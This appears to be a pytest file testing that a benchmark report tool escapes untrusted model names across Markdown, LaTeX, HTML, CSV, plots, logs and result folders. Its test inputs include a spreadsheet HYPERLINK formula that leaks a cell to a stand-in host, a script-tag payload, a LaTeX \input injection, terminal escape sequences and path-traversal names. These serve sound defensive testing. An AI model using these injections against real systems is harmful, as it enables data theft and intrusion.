"""Names and captions from elsewhere appear literally in every page, table and file that we write."""

import csv
import dataclasses
import re
import subprocess
import sys
from pathlib import Path

import pytest

from naturel_jax import storage
from naturel_jax.evaluators import results
from naturel_jax.report import plots, report
from naturel_jax.report.tables import MEASURED, Cell, ModelRow
from tfds_naturel.common import escape
from tfds_naturel.release import card

SCORE = {"value": -0.5, "count": 2, "low": 0.0, "high": 1.0}


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("NegCLIP-AP", "NegCLIP-AP"),
        ("vg_relation", "vg_relation"),
        ("_a_ **b** `c`", r"\_a\_ \*\*b\*\* \`c\`"),
        ("# a\n\n| b", r"\# a \| b"),
        ("[x](y) <img src=z> &lt;", r"\[x\](y) \<img src=z\> \&lt;"),
        ("a\x1b[2Jb\u202ec", "a\ufffd\\[2Jb\ufffdc"),
    ],
)
def test_markdown(text, escaped):
    assert escape.markdown(text) == escaped


@pytest.mark.parametrize(("text", "span"), [("a_b", "`a_b`"), ("`", "`` ` ``"), ("a``b\n# c", "``` a``b # c ```")])
def test_code_spans(text, span):
    assert escape.code(text) == span


@pytest.mark.parametrize(
    ("text", "escaped"),
    [("a_b & c%", r"a\_b \& c\%"), ("[1ex]*", "{[}1ex{]}{*}"), (r"\input{x}", r"\textbackslash{}input\{x\}")],
)
def test_latex(text, escaped):
    assert escape.latex(text) == escaped


@pytest.mark.parametrize("start", "=+-@\t\r")
def test_cells_are_not_formulas(start):
    assert escape.cell(f"{start}1") == f"'{start}1"
    assert escape.cell(f"a{start}") == f"a{start}"
    assert escape.table([f"{start}1", "a"], [[f"{start}2", 1]]).replace('"', "") == f"'{start}1,a\n'{start}2,1\n"


FORMULA = '=HYPERLINK("http://x.example?"&A1,"_$x^{")'
MODELS = (FORMULA, "_$\\frac{$", "<script>alert(1)</script>", "[x](http://y)", "*a*\n# b")


def write_result(out: Path, model: str) -> None:
    """A result of ``model`` on VG-Relation, where an evaluation writes it."""
    scores = {"vg_relation/macro": SCORE, "vg_relation/relation/$on$_{": SCORE, "=1+1": SCORE}
    result = results.Result(model, "vg_relation", "", 1, 2, 0, (f"record {model}\x1b[2J",), scores, {})
    folder = results.folder_of(out, model, result.benchmark)
    folder.mkdir(parents=True)
    row = {"version": results.VERSION, **dataclasses.asdict(result)}
    (folder / "scores.json").write_text(storage.sealed(row))


def test_report_shows_names_and_problems_literally(tmp_path):
    for model in MODELS:
        write_result(tmp_path, model)
    report.write(tmp_path)
    page, text, tex = ((tmp_path / f"report.{suffix}").read_text() for suffix in ("html", "md", "tex"))
    assert "<script" not in page and "<script" not in re.sub(r"\\<", "", text)
    assert "\x1b" not in text and not re.search(r"^# b|(?<!\\)\[x", text, re.MULTILINE)
    assert r"\frac" not in tex and "$" not in tex.replace(r"\$", "")
    with (tmp_path / "scores.csv").open(newline="") as file:
        header, *rows = csv.reader(file)
    assert {row[0].removeprefix("'") for row in rows} == set(MODELS)
    assert not any(cell.startswith(tuple("=+@")) for row in rows for cell in row)
    assert [row[3] for row in rows if row[header.index("kind")] == "measured"] == ["-0.5"] * 15, "numbers stay numbers"


def test_plots_draw_names_literally():
    names = ("$\\frac$", "_a", "$", "a\x07", "x" * 200)
    rows = [ModelRow(name, MEASURED, {"x": Cell(0.5, (0.4, 0.6))}) for name in names]
    assert plots.dots(rows, {"x": "$x^{$"})


NAMES = ["../../x", "/etc/x", "..", ".", "a/b", "a_b", "a b", "a\0b", "", "C:\\x", "x" * 300, "x" * 301]


def test_no_name_leaves_the_results_or_shares_a_folder(tmp_path):
    for name in NAMES:
        for folder in (results.folder_of(tmp_path, name, "b"), results.folder_of(tmp_path, "a", name)):
            assert len(folder.relative_to(tmp_path).parts) == 2 and ".." not in folder.parts
            folder.mkdir(parents=True)
            assert folder.resolve().parent.parent == tmp_path.resolve()
    assert len({results.file_name(name) for name in NAMES}) == len(NAMES)


def test_dataset_card_escapes_cells():
    facts = {"options": {"bank": "a|b\n<img src=x>"}}
    text = card.render("naturel/x", "A dataset.", {}, facts)
    assert r"| bank | a\|b \<img src=x\> |" in text


def test_logs_do_not_control_the_terminal():
    text = "\x1b]0;title\x07a\rb\u202e\n\tsecond line"
    code = "import logging; from tfds_naturel.common import cli; cli.set_up_logging()\n"
    code += f"logging.getLogger('naturel_jax').warning('%s', {text!r})"
    log = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, env={"PYTHONUTF8": "1"})
    assert log.stderr.decode().partition(" ")[2] == "\ufffd]0;title\ufffda\ufffdb\ufffd\n\tsecond line\n"
